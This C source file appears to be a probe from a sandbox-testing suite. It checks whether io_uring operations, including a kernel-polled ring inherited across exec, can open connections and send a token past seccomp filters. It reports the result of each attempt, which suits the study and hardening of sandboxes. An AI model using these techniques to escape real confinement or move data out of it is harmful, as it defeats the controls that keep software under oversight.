/* io_uring: socket calls that no seccomp filter sees. */
#include "attack.h"
#include <linux/io_uring.h>

struct ring {
    int fd;
    struct io_uring_params p;
    uint8_t *sq, *cq;
    struct io_uring_sqe *sqes;
};

static bool map_ring(struct ring *r) {
    size_t sq = r->p.sq_off.array + r->p.sq_entries * 4, cq = r->p.cq_off.cqes + r->p.cq_entries * 16;
    size_t size = sq > cq ? sq : cq;
    r->sq = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQ_RING);
    r->cq = r->sq;
    r->sqes = mmap(NULL, r->p.sq_entries * sizeof *r->sqes, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQES);
    return r->sq != MAP_FAILED && (void *)r->sqes != MAP_FAILED;
}

/* One operation; its result, or the negative errno. */
static int submit(struct ring *r, struct io_uring_sqe sqe, bool polled) {
    unsigned *tail = (unsigned *)(r->sq + r->p.sq_off.tail), *mask = (unsigned *)(r->sq + r->p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(r->sq + r->p.sq_off.array), at = *tail & *mask;
    r->sqes[at] = sqe;
    array[at] = at;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (!polled && syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
    unsigned *head = (unsigned *)(r->cq + r->p.cq_off.head), *end = (unsigned *)(r->cq + r->p.cq_off.tail);
    for (int i = 0; polled && i < 1000 && __atomic_load_n(end, __ATOMIC_ACQUIRE) == *head; i++) usleep(1000);
    if (__atomic_load_n(end, __ATOMIC_ACQUIRE) == *head) return -ETIMEDOUT;
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(r->cq + r->p.cq_off.cqes);
    int result = cqes[*head & *(unsigned *)(r->cq + r->p.cq_off.ring_mask)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

static void connect_by(struct ring *r, bool polled) {
    EACH_TARGET(t) {
        int fd = (int)MUST(socket(AF_INET, SOCK_STREAM, 0));
        struct io_uring_sqe connecting = {.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&t.any, .off = t.len};
        int result = submit(r, connecting, polled);
        note("connect: %s", result < 0 ? errname(-result) : "done");
        if (result == 0) write(fd, token(), token_length());
        close(fd);
    }
}

static void setup(void) {
    struct ring r = {0};
    r.fd = (int)TRY("io_uring_setup", syscall(SYS_io_uring_setup, 8, &r.p));
    TRY("io_uring_register", syscall(SYS_io_uring_register, r.fd, IORING_REGISTER_PROBE, NULL, 0));
    TRY("io_uring_enter", syscall(SYS_io_uring_enter, r.fd, 0, 0, 0, NULL, 0));
    if (r.fd >= 0 && map_ring(&r)) connect_by(&r, false);
}

/* At the same address in every process of this program, for it is not position-independent. */
static char data[256];

/* Run outside: a ring that a kernel thread polls, left open over the exec of what follows, and a socket that only the maker of the
 * ring has. Rings are shared memory: who has the descriptor needs no call to use it, and the thread works with its maker's files. */
static int hold(char **argv) {
    struct io_uring_params p = {.flags = IORING_SETUP_SQPOLL, .sq_thread_idle = 60000};
    int fd = (int)syscall(SYS_io_uring_setup, 8, &p);
    if (fd < 0) absent("no io_uring");
    struct address to = target("T_LO");
    int way = (int)MUST(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    MUST(connect(way, &to.any, to.len));
    snprintf(data, sizeof data, "%s", token());
    MUST(fcntl(fd, F_SETFD, 0));
    char text[200];
    snprintf(text, sizeof text, "%d %d %u %u %u %u %u %u %u %u %u", way, fd, p.sq_entries, p.cq_entries, p.sq_off.tail,
             p.sq_off.ring_mask, p.sq_off.array, p.cq_off.head, p.cq_off.tail, p.cq_off.ring_mask, p.cq_off.cqes);
    MUST(setenv("T_RING", text, 1));
    pid_t child = (pid_t)MUST(fork());
    if (child == 0) {
        execvp(argv[0], argv);
        fail("exec %s", argv[0]);
    }
    int status;
    /* The poller sleeps when nothing comes: its owner keeps it awake. */
    while (MUST(waitpid(child, &status, WNOHANG)) == 0) {
        syscall(SYS_io_uring_enter, fd, 0, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0);
        usleep(1000);
    }
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static void inherited(void) {
    struct ring r = {0};
    int way;
    CHECK(sscanf(env("T_RING"), "%d %d %u %u %u %u %u %u %u %u %u", &way, &r.fd, &r.p.sq_entries, &r.p.cq_entries,
                 &r.p.sq_off.tail, &r.p.sq_off.ring_mask, &r.p.sq_off.array, &r.p.cq_off.head, &r.p.cq_off.tail,
                 &r.p.cq_off.ring_mask, &r.p.cq_off.cqes) == 11);
    errno = 0;
    bool mapped_ = map_ring(&r);
    note("mmap of the ring: %s", mapped_ ? "done" : errname(errno));
    if (!mapped_) return;
    struct io_uring_sqe sending = {.opcode = IORING_OP_SEND, .fd = way, .addr = (uintptr_t)data, .len = (unsigned)token_length()};
    int result = submit(&r, sending, true);
    note("an operation: %s", result < 0 ? errname(-result) : "done");
}

int main(int argc, char **argv) {
    static const struct attack all[] = {{"io-uring", setup}, {"io-uring-inherited", inherited}};
    if (argc > 2 && !strcmp(argv[1], "hold")) return hold(argv + 2);
    return attack_main(argc, argv, all, sizeof all / sizeof *all);
}
